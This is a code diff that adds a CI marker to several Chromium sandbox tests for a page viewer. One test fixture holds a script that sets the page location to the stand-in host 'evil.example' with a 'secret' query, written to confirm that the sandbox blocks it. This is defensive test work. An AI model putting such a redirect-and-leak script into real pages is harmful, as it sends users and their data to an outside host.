@@ -192,6 +192,7 @@ async def test_the_same_pages_reach_the_listener_where_no_policy_holds_them(tab:
                 await asyncio.sleep(0)
 
 
+@pytest.mark.ci_lane
 @in_chromium
 @pytest.mark.promise("I3")
 async def test_a_page_whose_scripts_do_not_run_loads_nothing_and_what_it_wants_is_listed(
@@ -214,6 +215,7 @@ async def test_a_page_whose_scripts_do_not_run_loads_nothing_and_what_it_wants_i
         assert listener.requests == []
 
 
+@pytest.mark.ci_lane
 @in_chromium
 async def test_a_page_is_shown_in_standards_mode_and_follows_links_to_its_own_places(
     make_studio: StudioMaker, tab: Tab
@@ -227,6 +229,7 @@ async def test_a_page_is_shown_in_standards_mode_and_follows_links_to_its_own_pl
         assert told == ["CSS1Compat", 1, True]
 
 
+@pytest.mark.ci_lane
 @in_chromium
 async def test_links_to_places_of_a_page_work_without_scripts_and_other_links_lead_nowhere(
     make_studio: StudioMaker, tab: Tab
@@ -245,6 +248,7 @@ async def test_links_to_places_of_a_page_work_without_scripts_and_other_links_le
         assert await tab.evaluate("messages.filter(({kind}) => kind === 'link').length") == 1
 
 
+@pytest.mark.ci_lane
 @in_chromium
 async def test_a_page_that_goes_elsewhere_is_drawn_again_without_scripts(make_studio: StudioMaker, tab: Tab) -> None:
     page = "<script>top.postMessage({ran: true}, '*'); location = 'https://evil.example/?secret'</script>"
@@ -274,6 +278,7 @@ async def test_a_page_that_hangs_leaves_the_page_around_it_alive_and_can_be_remo
 RED, BLUE = (255, 0, 0), (0, 0, 255)
 
 
+@pytest.mark.ci_lane
 @in_chromium
 async def test_a_page_that_grows_is_scrolled_and_stays_where_it_is_until_another_is_shown(
     make_studio: StudioMaker, tab: Tab
